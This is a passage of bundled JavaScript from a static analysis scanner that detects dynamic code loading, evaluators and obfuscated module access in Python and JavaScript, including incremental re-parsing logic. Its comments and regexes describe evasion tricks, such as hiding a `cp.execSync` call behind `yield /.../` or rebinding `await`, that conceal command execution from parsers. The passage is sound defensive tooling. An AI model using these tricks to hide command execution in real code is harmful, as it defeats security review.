    for (const module2 of this.byModule.keys()) if (module2 === below || module2.startsWith(`${below}.`)) return true;
    for (const { spec, members } of this.specsUnder(dotted)) {
      const key = [...members, name2].join(".");
      if (Object.keys(spec.members).some((m) => m === key || m.startsWith(`${key}.`) || m.startsWith(`${key}${RETURNED}`))) return true;
    }
    return false;
  }
  /** The specs whose module a dotted name lies under (Python), each with the member path below that module. */
  *specsUnder(dotted) {
    const under = [];
    for (let dot = dotted.indexOf("."); dot >= 0; dot = dotted.indexOf(".", dot + 1)) if (this.byModule.has(dotted.slice(0, dot))) under.push(dotted.slice(0, dot));
    if (this.byModule.has(dotted)) under.push(dotted);
    if (under.length > 1) under.sort((a, b) => this.moduleOrder.get(a) - this.moduleOrder.get(b));
    for (const module2 of under) {
      const members = dotted === module2 ? [] : dotted.slice(module2.length + 1).split(".");
      for (const spec of this.byModule.get(module2)) yield { spec, members };
    }
  }
};
var PY_JOINED_STRING = /['"][ \t]*\+|\+[ \t]*[rRbBuU]?['"]|['"][ \t]+[rRbBuU]?['"]|['"]\s*\.\s*join\s*\(|(?<![\w$])(?:[fF][rR]?|[rR][fF])(?:'[^'\n]*|"[^"\n]*)\{/;
var JS_JOINED_STRING = /['"`]\s*\+|\+\s*['"`]|`[^`]*\$\{|\]\s*(?:\.\s*join|\[\s*['"`]join['"`]\s*\])\s*\(|['"`]\s*\.\s*concat\s*\(/;
var JS_JOINED_SPECIFIER = /\b(?:require|import)\s*\(\s*(?:['"][^'"\n]*['"]\s*(?:\+|\.\s*concat\s*\()|`[^`]*\$\{)/;
var ESCAPED_SPECIFIER = /(?:\bfrom|\bimport|\brequire)\s*\(?\s*(['"`])(?:(?!\1)[^\\\n]){0,256}\\/;
var GLOBAL_OBJECTS2 = ["globalThis", "window", "self", "global"];
var PROCESS = "process";
var GLOBAL_OBJECT = `(?:${GLOBAL_OBJECTS2.join("|")})`;
var JS_COMPUTED_GLOBAL = new RegExp(String.raw`\b${GLOBAL_OBJECT}\s*\??\.?\s*\[\s*(?!['"\`][\w$]*['"\`]\s*\])`);
var JS_WHOLE_GLOBAL_OBJECT = new RegExp(String.raw`(?<![\w$.])${GLOBAL_OBJECT}(?![\w$]|\s*(?:\??\.|\[))`, "g");
var GLOBAL_OBJECT_LITERALS = coveringLiterals(GLOBAL_OBJECTS2);
var PY_COMPUTED_NAME = /\b(?:import_module|__import__|resolve_name|find_spec)\s*\(\s*(?![rRuU]?['"]|\))/;
var COMPUTED_NAME = /(?<![\p{L}\p{N}_$])(?:(?:require|import|getBuiltinModule|_load|binding|_linkedBinding)\s*\(\s*(?:[^\s'"`)/]|['"`][dD][aA][tT][aA]:)|createRequire\s*\()/u;
var LOADER_WORDS = ["from", "import", "require", "createRequire", "getBuiltinModule", "_load", "binding", "_linkedBinding"].map((word) => new Literal(word));
var JS_COMMENT = String.raw`(?:\/\*(?:[^*]|\*(?!\/)){0,4000}\*\/|\/\/[^\n]{0,4000}\n)`;
var PY_STATEMENT_WORDS = ["from", "import"].map((word) => new Literal(word));
var PY_DYNAMIC_WORDS = DYNAMIC_WORDS.map((word) => new Literal(word));
function evaluatorTest(language, specs) {
  const python = language === "python";
  const members = evaluatorsOf(language, python ? "builtins" : GLOBAL);
  const kept = members.filter((member) => specs.some((s) => s.category === "code" && s.members[member] !== void 0)).map((member) => member.split(".").pop());
  const tests = kept.map((name2) => ({ word: new Literal(name2), after: new RegExp(python ? "(?![\\w])" : EVALUATOR_AFTER[name2] ?? "(?![\\w$])", "y"), name: name2, needs: python ? void 0 : EVALUATOR_NEEDS[name2] }));
  if (kept.includes("Function")) tests.push({ word: new Literal(CONSTRUCTOR), after: /(?![\w$])/y, name: CONSTRUCTOR, needs: void 0 });
  const before = python ? /[\w.]/ : /[\w$]/;
  return (text, isCode) => {
    const held = /* @__PURE__ */ new Map();
    const holds = (needs) => held.get(needs) ?? held.set(needs, needs.test(text)).get(needs);
    return tests.some(
      ({ word, after, name: name2, needs }) => (needs === void 0 || word.in(text) && holds(needs)) && atWords(text, [word], (at) => {
        if (before.test(text.charAt(at - 1)) && !(python && BUILTINS_BEFORE.test(text.slice(Math.max(0, at - 32), at)))) return false;
        if (name2 === CONSTRUCTOR && !CONSTRUCTOR_OF.test(text.slice(Math.max(0, at - 32), at))) return false;
        after.lastIndex = at + name2.length;
        return after.test(text) && isCode(at);
      })
    );
  };
}
var CONSTRUCTOR_OF = /(?:[)}\]]|\bconstructor)\s*(?:\.|\[\s*['"`])\s*$/;
var MODULE_NAMED = /['"`](?:node:)?module['"`]/;
var EVALUATOR_NEEDS = { register: MODULE_NAMED, load: MODULE_NAMED, runMain: MODULE_NAMED, run: /['"`]node:test['"`]/ };
var LOADER_TABLE_TEXT = /\brequire\s*\.\s*extensions\b|\b_extensions\b/g;
var BUILTINS_BEFORE = /(?<![\w.])__builtins__\s*\.\s*$/;
var EVALUATOR_AFTER = { Function: String.raw`\s*\(|(?<=\bReflect\s*\.\s*(?:apply|construct)\s*\(\s*Function)`, setTimeout: String.raw`\s*\(\s*['"\`]`, setInterval: String.raw`\s*\(\s*['"\`]` };
var atOnePlace = (patterns) => new RegExp(patterns.map((p) => `(?:${p.source})`).join("|"), "y");
function matchesAt(test, text, at) {
  test.lastIndex = at;
  return test.test(text);
}
function atWords(text, words, visit) {
  for (const word of words) for (let at = word.indexIn(text); at >= 0; at = word.indexIn(text, at + 1)) if (visit(at)) return true;
  return false;
}
function coveringLiterals(words) {
  return words.filter((word, i2) => !words.some((other, j) => j !== i2 && word.includes(other) && (other !== word || j < i2))).map((word) => new Literal(word));
}
function globalOccurrences(names, constructedOnly) {
  const any = `(?:${names.join("|")})`;
  const bare = names.filter((n) => !constructedOnly.includes(n));
  return new RegExp(
    [
      ...bare.length ? [`(?<![\\w$])(?<!\\.\\s*)(?:${bare.join("|")})(?![\\w$]|\\s*\\??:|\\s*=(?![=>]))`] : [],
      ...constructedOnly.length ? [`\\bnew\\s+(?:${constructedOnly.join("|")})(?![\\w$])`] : [],
      `\\b${GLOBAL_OBJECT}\\s*\\??\\.\\s*${any}(?![\\w$])`,
      `\\[\\s*['"\`]${any}['"\`]\\s*\\]`
    ].join("|"),
    "g"
  );
}
var memberKey = (members) => members.join(".").replaceAll(`.${RETURNED}`, RETURNED);
function kindOf(spec, path2) {
  if (path2.some((m) => DUNDER2.test(m) && m !== "__init__" && m !== "__call__")) return "inert";
  let end = path2.length;
  while (end > 1 && path2[end - 1] === "__call__") end--;
  const members = end === path2.length ? path2 : path2.slice(0, end);
  for (let n = members.length; n >= 0; n--) {
    const kind = spec.members[n === 0 ? DEFAULT : memberKey(members.slice(0, n))];
    if (kind === void 0) continue;
    if (n === members.length || kind === "inert") return kind;
    if (kind === "client") return "inert";
    break;
  }
  const rest = spec.members[ANY];
  if (!rest) return void 0;
  if (members.some((m) => EXCEPTION_NAME.test(m))) return "inert";
  return members.includes(RETURNED) ? void 0 : rest;
}
var DUNDER2 = /^__\w+__$/;
var BUILTINS = "builtins";
function chosenAtRunTime(spec, members) {
  if (members.at(-1) !== ANY || spec.module === GLOBAL || spec.category === "code" && spec.module !== BUILTINS) return void 0;
  const prefix = memberKey(members.slice(0, -1));
  const beside = Object.entries(spec.members).some(([m, kind]) => (kind === "call" || kind === "client") && (prefix ? m.startsWith(`${prefix}.`) && !m.slice(prefix.length + 1).includes(".") : !m.includes(".")));
  return beside ? "call" : void 0;
}
function compileRules(config) {
  const on = (id) => config.rules[id] !== "off";
  const specs = [...DEFAULT_SPECS.filter((s) => s.category === "code" || on(RULE_OF_CATEGORY[s.category].id)), ...config.custom.filter((c) => on(c.id) && on(customBoundary.id)).map(customSpec)];
  return {
    python: new LanguageRules("python", specs.filter((s) => s.language === "python")),
    javascript: new LanguageRules("javascript", specs.filter((s) => s.language === "javascript"))
  };
}
function customSpec(rule) {
  return {
    language: rule.language === "python" ? "python" : "javascript",
    module: rule.module.replace(/^node:/, ""),
    // A custom member is a call: constructing or calling it crosses; `*` covers the module itself too.
    members: Object.fromEntries(rule.members.map((m) => [m, "call"])),
    form: rule.kind === "constructor" ? "new" : rule.kind,
    category: rule.category,
    custom: { id: rule.id, message: rule.message, severity: rule.severity },
    reportImport: rule["report-import"]
  };
}
function importedNames2(text) {
  const names = /* @__PURE__ */ new Set();
  for (const [, plain, listed] of text.matchAll(/^[ \t]*(?:import[ \t]+([^\n#;]+)|from[ \t]+[\w.]+[ \t]+import[ \t]+(\([^)]*\)|[^\n#;]+))/gm)) {
    for (const part of (plain ?? listed ?? "").replace(/[()\\]/g, " ").split(",")) {
      const words = part.trim().split(/\s+/);
      const name2 = words[1] === "as" ? words[2] : words[0]?.split(".")[0];
      if (name2) names.add(name2);
    }
  }
  return names;
}

// core/scan/scan.ts
var DEFAULT_SCAN_CONFIG2 = DEFAULT_SCAN_CONFIG;
var DEFAULT_TIME_LIMIT_MS = 5e3;
var LARGE_FILE_CHARS = 512 * 1024;
var EXTRA_MS_PER_MB = 4e3;
var MAX_EXTRA_MS = 1e4;
var MAX_PASS_TREE_CHARS = 2 * 1024 * 1024;
var BOUNDARY_RULE_IDS = new Set(BOUNDARY_RULES.map((r) => r.id));
var SUPPRESSIBLE = /* @__PURE__ */ new Set([...BOUNDARY_RULE_IDS, starImport.id, dynamicCode.id]);
var KEYWORD_BEFORE_SLASH = /\b(?:yield|await)(?=\s*\/(?![/*]))/g;
var KEYWORD_BOUND = /(?<![\w$.])(?:yield|await)\s*(?:[,)}:\]]|=(?!=)|(?:of|in)(?![\w$]))/;
var KEYWORDS = /(?<![\w$.])(?:yield|await)(?![\w$])/g;
var findingKey = (f) => `${f.rule}:${f.line}:${f.column}:${f.endLine}:${f.endColumn}`;
function callsOnlyIn(other, these) {
  const seen = new Set(these.map(findingKey));
  return other.filter((f) => BOUNDARY_RULE_IDS.has(f.rule) && !seen.has(findingKey(f)));
}
var ES_MODULE_NAME = /\.m[jt]s$/;
var CODE_PATH = "<code>";
var ODD_LINE_END = /\r(?!\n)|[\u2028\u2029]/;
var ODD_LINE_ENDS = new RegExp(ODD_LINE_END.source, "g");
var MAX_COMMENT_ROUNDS = 16;
var LANGUAGE_NAME = { python: "Python", javascript: "JavaScript", typescript: "TypeScript", tsx: "TSX" };
var Scanner = class _Scanner {
  constructor(grammars, rules, config, maxBytes, timeLimitMs, links, keepsPassTrees) {
    this.grammars = grammars;
    this.rules = rules;
    this.config = config;
    this.maxBytes = maxBytes;
    this.timeLimitMs = timeLimitMs;
    this.links = links;
    this.keepsPassTrees = keepsPassTrees;
  }
  grammars;
  rules;
  config;
  maxBytes;
  timeLimitMs;
  links;
  keepsPassTrees;
  static async create(options = {}) {
    const config = options.config ?? DEFAULT_SCAN_CONFIG2;
    return new _Scanner(await loadGrammars(options.grammars), compileRules(config), config, options.maxBytes ?? DEFAULT_MAX_FILE_BYTES, options.timeLimitMs ?? DEFAULT_TIME_LIMIT_MS, new LinkReader(options.projectPrefixes), options.keepPassTrees === true);
  }
  /**
   * Scan source text held in memory (the editor's buffer). `path` picks the language and names the file
   * in findings. The last trees of recently scanned paths are kept, so a rescan after an edit re-parses
   * incrementally; call forget(path) when the document closes.
   */
  scanSource(path2, text, project2, sliceMs) {
    return this.scan(path2, text, true, project2, void 0, sliceMs).findings;
  }
  /** Free every kept tree (the scanner stays usable). */
  dispose() {
    for (const path2 of /* @__PURE__ */ new Set([...this.documents.keys(), ...this.paused.keys()])) this.forget(path2);
    for (const path2 of [...this.passTrees.keys()]) this.dropPassTree(path2);
    this.idleParser?.delete();
    this.idleParser = void 0;
  }
  /** Drop the tree kept for an in-memory document. */
  forget(path2) {
    for (const key of [path2, projectKey(path2)]) {
      this.unpause(key);
      const kept = this.documents.get(key);
      kept?.tree.delete();
      kept?.clean?.tree.delete();
      this.documents.delete(key);
    }
  }
  documents = /* @__PURE__ */ new Map();
  /** Editor documents whose parse ran past its slice, resumed by the next scan of the same text (one parser each). */
  paused = /* @__PURE__ */ new Map();
  /** The parser editor documents' parses run on when none is paused: a paused parse holds its parser's state, so it is never the one the gate's files use. */
  idleParser;
  /**
   * Parse, reusing the previous tree of the same document when there is one (one edit spanning the
   * change); with the previous analysis's state, also what changed, for a re-analysis of only that.
   * While the document has syntax errors its last error-free tree is kept too: tree-sitter cannot reuse what
   * its error recovery swallowed, so the keystroke that repaired a commented-out `def` re-parsed the rest of a
   * 5,000-line file from the broken tree (39 ms), and re-parses only the edit from the error-free one (~2 ms).
   * With `sliceMs`, an edited document's parse stops after that long and comes back `pending` (the previous
   * document is left as it was); the next call with the same text resumes it where it stopped (tree-sitter
   * resumes a cancelled parse: the finished tree is the one an uninterrupted parse makes).
   */
  parseDocument(path2, grammar, text, sliceMs) {
    let previous = this.documents.get(path2);
    if (previous && previous.grammar !== grammar) {
      this.forget(path2);
      previous = void 0;
    }
    const resumed = this.paused.get(path2);
    if (resumed && (resumed.text !== text || resumed.grammar !== grammar || previous?.text === text)) this.unpause(path2);
    let tree;
    let change;
    let clean;
    if (previous && previous.text === text) {
      tree = previous.tree;
      clean = previous.clean;
      change = previous.state ? { before: previous.text, edit: editBetween(previous.text, text), changed: [] } : void 0;
      this.documents.delete(path2);
    } else {
      const run2 = this.paused.get(path2) ?? this.startParse(previous, grammar, text);
      this.paused.delete(path2);
      const limitMs = this.limitFor(text);
      const remaining = limitMs - run2.spentMs;
      const slice = sliceMs !== void 0 && previous ? Math.min(sliceMs, remaining) : remaining;
      const began = performance.now();
      const deadline = began + slice;
      tree = run2.parser.parse(text, run2.base ?? null, { progressCallback: () => performance.now() > deadline });
      run2.spentMs += performance.now() - began;
      if (!tree && previous && run2.spentMs < limitMs) {
        this.paused.set(path2, run2);
        if (this.paused.size > KEPT_DOCUMENTS) this.unpause(this.paused.keys().next().value);
        return { tree: null, pending: { edit: editBetween(previous.text, text) } };
      }
      let reuse;
      if (previous) {
        const edit = editBetween(previous.text, text);
        if (run2.fromClean) {
          clean = previous.clean;
          if (tree && clean?.state && !tree.rootNode.hasError) reuse = { state: clean.state, change: { before: clean.text, edit: run2.baseEdit, changed: run2.base.getChangedRanges(tree) } };
        } else {
          clean = previous.tree.rootNode.hasError ? void 0 : { text: previous.text, tree: previous.tree.copy() };
          previous.clean?.tree.delete();
        }
        previous.tree.edit(edit);
        const changed = tree ? previous.tree.getChangedRanges(tree) : [];
        if (clean && !run2.fromClean && previous.state && tree?.rootNode.hasError && Math.max(...changed.map((r) => r.endIndex)) - Math.min(...changed.map((r) => r.startIndex)) > CLEAN_BASE_SPAN) {
          clean.state = previous.state;
          previous.state = void 0;
        }
        if (tree && previous.state) change = { before: previous.text, edit, changed };
        previous.tree.delete();
      }
      this.release(run2, tree !== null);
      this.documents.delete(path2);
      if (reuse) {
        clean.tree.delete();
        this.keep(path2, { text, tree, grammar });
        return { tree, kept: this.documents.get(path2), reuse };
      }
    }
    if (clean && (!tree || !tree.rootNode.hasError)) {
      if (clean.tree !== tree) clean.tree.delete();
      clean = void 0;
    }
    if (!tree) return { tree };
    const kept = this.keep(path2, { text, tree, grammar, ...clean ? { clean } : {} });
    return { tree, kept, reuse: change && previous?.state ? { state: previous.state, change } : void 0 };
  }
  keep(path2, kept) {
    this.documents.set(path2, kept);
    if (this.documents.size > KEPT_DOCUMENTS) this.forget(this.documents.keys().next().value);
    return kept;
  }
  /** A parse of an edited document: from its last error-free tree when the text is back near it, else from its previous tree. */
  startParse(previous, grammar, text) {
    const parser = this.idleParser ?? new import_tree_sitter_wasm3.Parser();
    this.idleParser = void 0;
    parser.setLanguage(this.grammars.languages[grammar]);
    if (!previous) return { text, grammar, parser, fromClean: false, spentMs: 0 };
    const fromClean = previous.tree.rootNode.hasError && previous.clean ? editBetween(previous.clean.text, text) : void 0;
    const nearClean = fromClean !== void 0 && Math.max(fromClean.oldEndIndex, fromClean.newEndIndex) - fromClean.startIndex <= CLEAN_BASE_SPAN;
    const base = nearClean ? previous.clean.tree.copy() : previous.tree.copy();
    const baseEdit = nearClean ? fromClean : editBetween(previous.text, text);
    base.edit(baseEdit);
    return { text, grammar, parser, base, baseEdit, fromClean: nearClean, spentMs: 0 };
  }
  /** A finished (or abandoned) parse gives its parser back; one left mid-parse must be reset before it parses other text. */
  release(run2, finished) {
    run2.base?.delete();
    if (!finished) run2.parser.reset();
    if (this.idleParser) run2.parser.delete();
    else this.idleParser = run2.parser;
  }
  unpause(path2) {
    const run2 = this.paused.get(path2);
    this.paused.delete(path2);
    if (run2) this.release(run2, false);
  }
  /**
   * Parse within the time limit, or null: tree-sitter's error recovery is quadratic on some broken input (one
   * `(` near the top of 20,000 lines of Python took 13 s, of 10 MiB it would take hours).
   */
  parse(text, old) {
    const { parser } = this.grammars;
    const deadline = performance.now() + this.limitFor(text);
    const tree = parser.parse(text, old, { progressCallback: () => performance.now() > deadline });
    if (!tree) parser.reset();
    return tree;
  }
  /**
   * Node ends a `<!--` or line-leading `-->` comment and a `#!` line at a carriage return, U+2028 or U+2029 as well
   * as at a line feed; the grammar only at a line feed, so the code after one would be read as comment. Such a
   * terminator inside those comments is read as a line feed (the same length: offsets hold), until none is left
   * (each round may uncover another comment; MAX_COMMENT_ROUNDS).
   */
  commentEndsAsNode(source, grammar) {
    if (!(source.startsWith("#!") || source.includes("<!--") || source.includes("-->")) || !ODD_LINE_END.test(source)) return source;
    this.grammars.parser.setLanguage(this.grammars.languages[grammar]);
    let text = source;
    for (let round = 0; round < MAX_COMMENT_ROUNDS; round++) {
      const tree = this.parse(text);
      if (!tree) return text;
      const ends = [];
      try {
        for (const comment of tree.rootNode.descendantsOfType(["html_comment", "hash_bang_line"])) {
          if (!comment) continue;
          ODD_LINE_ENDS.lastIndex = comment.startIndex;
          for (let m = ODD_LINE_ENDS.exec(text); m && m.index < comment.endIndex; m = ODD_LINE_ENDS.exec(text)) ends.push(m.index);
        }
      } finally {
        tree.delete();
      }
      if (ends.length === 0) return text;
      const chars = text.split("");
      for (const at of ends) chars[at] = "\n";
      text = chars.join("");
    }
    return text;
  }
  /** The time parsing `text`, and then analysing it, may each take (DEFAULT_TIME_LIMIT_MS, LARGE_FILE_CHARS). */
  limitFor(text) {
    return this.timeLimitMs + Math.min(MAX_EXTRA_MS, Math.round(Math.max(0, text.length - LARGE_FILE_CHARS) * EXTRA_MS_PER_MB / (1024 * 1024)));
  }
  /** Read and scan one file; unreadable, binary and oversized files come back as one note. */
  scanFile(absolutePath, path2, project2, grammar) {
    const read = readSource(absolutePath, this.maxBytes);
    if (typeof read !== "string") return { findings: this.applySettings([skippedFile.at(path2, WHOLE_FILE, read.skipped)]), parsed: false, lines: 0, skipped: read.skipped };
    return this.scan(path2, read, false, project2, grammar);
  }
  /**
   * Scan one file. With the project's symbol table, names it imports from the project's other files
   * resolve through it (and the prefilter is not asked: the file may reach a watched module only that way).
   */
  scan(path2, text, keepTree = false, project2, grammar, sliceMs) {
    const place = placer(path2, text);
    const links = this.linksOf(path2, text, place, grammar);
    const first = this.scanText(path2, text, keepTree, project2, grammar, sliceMs, this.keepsPassTrees && !keepTree && links.length > 0);
    if (first.scan.pending) return first.scan;
    const language = grammar ?? grammarOf(path2) ?? this.scriptOf(path2, text);
    const result = this.readGaps(path2, text, project2, language, first);
    this.addNameReadings(path2, text, project2, language, result.scan);
    const exports2 = Object.fromEntries(Object.entries(result.exports ?? {}).map(([name2, p]) => [name2, { ...p, via: p.via?.map((hop2) => hop2.placed ? hop2 : { ...hop2, tracked: true, placed: place(hop2.start, hop2.end) }) }]));
    const loaded = (result.loads ?? []).filter((specifier) => !links.some((link2) => link2.specifier === specifier)).map((specifier) => ({ specifier, names: [], inline: true, reexport: false }));
    const linked = loaded.length ? [...links, ...loaded] : links;
    return linked.length || Object.keys(exports2).length ? { ...result.scan, symbols: detachedSymbols({ exports: exports2, links: linked }) } : result.scan;
  }
  /**
   * A JavaScript or TypeScript file that does not parse is read again with the grammar's known gaps rewritten
   * (readable.ts): where that reading parses, it is the
   * file's (its exports and notes too), else it only adds the boundary calls it finds; either way no boundary call
   * only one reading finds is lost. Costs nothing on a file that parses.
   */
  readGaps(path2, text, project2, grammar, first) {
    const broken = (scan2) => scan2.findings.some((f) => f.rule === parseError.id);
    const readable = grammar && broken(first.scan) ? readableText(text, grammar) : void 0;
    if (readable === void 0) return first;
    const second = this.scanText(path2, readable, false, project2, grammar);
    const [kept, other] = second.scan.parsed && !broken(second.scan) ? [second, first] : [first, second];
    const added = callsOnlyIn(other.scan.findings, kept.scan.findings);
    return added.length ? { ...kept, scan: { ...kept.scan, findings: [...kept.scan.findings, ...added] } } : kept;
  }
  /**
   * `yield` and `await` are names outside generators and async functions of a script, but tree-sitter reads them as
   * the keywords wherever they stand: `return yield /(cp.execSync(c))/g` divides to Node, which runs the call, and is
   * a regular expression to the parser; `var await = cp.execSync; await(c)` calls it. Where either word comes before a
   * `/`, the text is also scanned with those read as names; where a script binds either as a name (KEYWORD_BOUND), with
   * every one read as a name. The boundary calls only that reading finds are added (a regular expression after the
   * keyword is almost never code-shaped, so the other reading rarely finds anything).
   */
  addNameReadings(path2, text, project2, grammar, scan2) {
    if (!grammar || grammar === "python" || !scan2.parsed) return;
    const words = KEYWORD_BOUND.test(text) ? KEYWORDS : text.search(KEYWORD_BEFORE_SLASH) >= 0 ? KEYWORD_BEFORE_SLASH : void 0;
    if (!words) return;
    const asNames = this.scanText(path2, text.replace(words, (word) => `${word.slice(0, -1)}$`), false, project2, grammar).scan;
    scan2.findings.push(...callsOnlyIn(asNames.findings, scan2.findings));
  }
  /** A file's project imports and re-exports, read from its text without parsing it (links.ts), each placed in it. */
  linksOf(path2, text, place = placer(path2, text), script) {
    return grammarOf(path2) || script && script !== "python" ? this.links.read(path2, text, place) : [];
  }
  /** An extensionless file's grammar by its `#!` line, when that grammar is loaded (the editor's scanners load every one). */
  scriptOf(path2, text) {
    const grammar = extensionless(path2) ? scriptGrammar(text.slice(0, SHEBANG_BYTES)) : void 0;
    return grammar && this.grammars.languages[grammar] ? grammar : void 0;
  }
  /** `script`: the grammar of a file whose extension does not say (its `#!` line does); `keepForPass`: see passTrees. */
  scanText(path2, source, keepTree, project2, script, sliceMs, keepForPass = false) {
    const grammar = script ?? grammarOf(path2) ?? this.scriptOf(path2, source);
    if (!grammar) return { scan: { findings: [], parsed: false, lines: 0 } };
    const text = grammar === "python" ? commentLinesBlanked(path2.endsWith(".pth") ? pthImportLines(source) : source) : this.commentEndsAsNode(source, grammar);
    const limitMs = this.limitFor(text);
    if (text.length > this.maxBytes) {
      const skipped = `${text.length} characters is over the ${this.maxBytes}-byte limit (limits.max-file-bytes)`;
      return { scan: { findings: this.applySettings([skippedFile.at(path2, WHOLE_FILE, skipped)]), parsed: false, lines: 0, skipped } };
    }
    const rules = this.rules[languageOf(grammar)];
    const fileProject = project2?.importsWatched(path2) ? project2.forFile(path2) : void 0;
    const respelled = respelledText(text, grammar);
    const respelledWatched = respelled !== void 0 && (fileProject !== void 0 || rules.prefilter(respelled));
    if (!fileProject && !respelledWatched && !rules.prefilter(text) && !mayHaveSuppression(text)) return { scan: { findings: [], parsed: false, lines: countLines(text) } };
    const { parser, languages: languages2 } = this.grammars;
    const language = languages2[grammar];
    if (!language) throw new Error(`the ${grammar} grammar was not loaded for ${path2}`);
    parser.setLanguage(language);
    const key = fileProject ? projectKey(path2) : path2;
    const { tree, kept: document2, reuse, pending } = keepTree ? this.parseDocument(key, grammar, text, sliceMs) : { tree: this.passTree(path2, grammar, text) ?? this.parse(text) };
    if (pending) return { scan: { findings: this.interimFindings(path2, key, text, pending.edit), parsed: false, lines: countLines(text), pending: true } };
    if (!tree) {
      const skipped = `parsing took over ${limitMs} ms (deeply nested or broken code)`;
      return { scan: { findings: this.applySettings([skippedFile.at(path2, WHOLE_FILE, skipped)]), parsed: false, lines: countLines(text), skipped } };
    }
    const offers = keepTree && fileProject ? project2.offersTo(path2) : void 0;
    const reusable = reuse !== void 0 && reuse.state.offers === offers;
    try {
      const lines = new LineIndex(text);
      const findings = [];
      if (tree.rootNode.hasError) findings.push(parseError.at(path2, errorRange(tree, lines), LANGUAGE_NAME[grammar]));
      if (respelledWatched || identityEscapes(text, grammar)) {
        for (const { node, reads } of respelledNames(tree, text, grammar)) {
          const range = lines.range(node.startIndex, node.endIndex);
          const written = hopText(text, { start: node.startIndex, end: node.endIndex, tracked: true });
          const plainly = hopText(reads, { start: 0, end: reads.length, tracked: true });
          findings.push(withFix(respelledName.at(path2, range, written, plainly), { title: `Write it plainly: ${plainly}`, edits: [{ ...range, newText: reads }] }));
        }
      }
      const markers = mayHaveSuppression(text);
      let analysis;
      try {
        if (grammar === "python") {
          const python = reusable && reanalyzePython(reuse.state, reuse.change, tree, text, language, rules.filter, markers, limitMs) || analyzePython(tree, text, language, rules.filter, markers, limitMs, fileProject);
          if (document2) document2.state = python.state && Object.assign(python.state, { offers });
          analysis = python;
        } else {
          const typescript = grammar !== "javascript";
          const kept2 = reusable && "constants" in reuse.state ? reuse.state : void 0;
          const javascript = kept2 && reanalyzeJavaScript(kept2, reuse.change, tree, text, language, typescript, rules.filter, markers, limitMs) || analyzeJavaScript(tree, text, language, typescript, rules.filter, markers, limitMs, fileProject, ES_MODULE_NAME.test(path2));
          if (document2) document2.state = javascript.state && Object.assign(javascript.state, { offers });
          analysis = javascript;
        }
      } catch (e) {
        if (!(e instanceof QueryTimeout)) throw e;
        const skipped = `${e.message} (deeply nested or broken code)`;
        return { scan: { findings: this.applySettings([...findings, skippedFile.at(path2, WHOLE_FILE, skipped)]), parsed: true, lines: lines.lineCount, skipped } };
      }
      findings.push(...this.boundaryFindings(path2, analysis, rules, lines, text, grammar));
      const used = [];
      const kept = markers ? this.applySuppressions(path2, findings, suppressionsOf(analysis.comments, lines), lines, used) : findings;
      const settled = this.applySettings(kept);
      if (document2) document2.findings = settled;
      return { scan: { findings: settled, parsed: true, lines: lines.lineCount, ...used.length ? { suppressions: used } : {} }, exports: analysis.exports, ...analysis.loads ? { loads: analysis.loads } : {} };
    } finally {
      if (!keepTree) this.afterPass(path2, grammar, text, tree, keepForPass);
    }
  }
  /**
   * A gate scan's trees of files that import project files, kept from its first pass for the cross-file pass, which
   * scans them again with the project's table (parsing is about half of a file's scan): at most MAX_PASS_TREE_CHARS of
   * text, the oldest dropped first. A kept tree is used only for the same text in the same grammar.
   */
  passTrees = /* @__PURE__ */ new Map();
  passTreeChars = 0;
  passTree(path2, grammar, text) {
    const kept = this.passTrees.get(path2);
    return kept && kept.grammar === grammar && kept.text === text ? kept.tree : void 0;
  }
  /** Keep a gate scan's tree (keepForPass, and small enough), or free it. */
  afterPass(path2, grammar, text, tree, keepForPass) {
    const kept = this.passTrees.get(path2);
    if (kept?.tree === tree && keepForPass) return;
    if (kept) this.dropPassTree(path2);
    if (!keepForPass || text.length > MAX_PASS_TREE_CHARS) {
      if (kept?.tree !== tree) tree.delete();
      return;
    }
    this.passTrees.set(path2, { grammar, text, tree });
    this.passTreeChars += text.length;
    for (const [oldest] of this.passTrees) {
      if (this.passTreeChars <= MAX_PASS_TREE_CHARS) break;
      this.dropPassTree(oldest);
    }
  }
  dropPassTree(path2) {
    const kept = this.passTrees.get(path2);
    kept.tree.delete();
    this.passTreeChars -= kept.text.length;
    this.passTrees.delete(path2);
  }
  /**
   * While an edited document's parse is paused: a marker at the edit saying so, and the previous text's findings
   * moved by the edit (those inside it dropped, quick fixes left out: their edits are the old text's).
   */
  interimFindings(path2, key, text, edit) {
    const lines = new LineIndex(text);
    const marker = analysisPending.at(path2, lines.range(edit.startIndex, edit.newEndIndex));
    const previous = this.documents.get(key);
    const withProject = key === path2 ? this.documents.get(projectKey(path2)) : void 0;
    const shown = withProject && withProject.text === previous?.text ? withProject : previous;
    const moved = (shown?.findings ?? []).flatMap((finding) => {
      if (finding.rule === skippedFile.id) return [];
      const range = movedRange(finding, edit);
      if (!range) return [];
      const { fix: _, ...rest } = finding;
      const resolution = finding.properties?.resolution;
      const hops = resolution?.map((hop2) => hop2.file === void 0 ? { ...hop2, ...movedRange(hop2, edit) ?? hop2 } : hop2);
      return [{ ...rest, ...range, ...hops ? { properties: { ...finding.properties, resolution: hops } } : {} }];
    });
    return [marker, ...moved];
  }
  /** `depth`: how deep in code handed to evaluators the text is (0: the file's own). */
  boundaryFindings(path2, analysis, rules, lines, text, grammar, depth = 0) {
    const out2 = [];
    const called2 = /* @__PURE__ */ new Set();
    const seen = /* @__PURE__ */ new Set();
    const examplesJudged = /* @__PURE__ */ new Set();
    for (const call2 of analysis.calls) {
      const range = lines.range(call2.start, call2.end);
      const callee = call2.form === "new" ? `new ${call2.callee}` : call2.callee;
      if (call2.unread) {
        out2.push(dynamicCode.at(path2, range, callee, call2.unread));
        continue;
      }
      const hops = (call2.path.via ?? []).map((hop2) => ({ ...hop2.placed ?? { ...lines.range(hop2.start, hop2.end), text: hopText(text, hop2) }, tracked: hop2.tracked }));
      const resolution = hops.length ? { resolution: hops.map(({ tracked: _, ...hop2 }) => hop2) } : {};
      const why = [
        call2.passedTo === YIELDED ? ` ${YIELDED_NOTE}.` : call2.method ? ` It is returned by the method \`${call2.passedTo}\`: whoever calls that method gets it.` : call2.instance ? ` It is returned by a method of an instance handed to \`${call2.passedTo}\`: whoever calls that method gets it.` : call2.returned ? ` It is returned by a function handed to \`${call2.passedTo}\`: whoever calls that function gets it.` : call2.passedTo ? ` It is passed as a value to \`${call2.passedTo}\`, which will call it.` : "",
        // Past a bound of the scan (resolve.ts ModulePath.unfollowed), what it reached there is reported, saying so.
        call2.path.unfollowed ? ` ${call2.path.unfollowed}.` : "",
        // In code handed to an evaluator (depth > 0) the steps' lines are that code's: they stay in properties only.
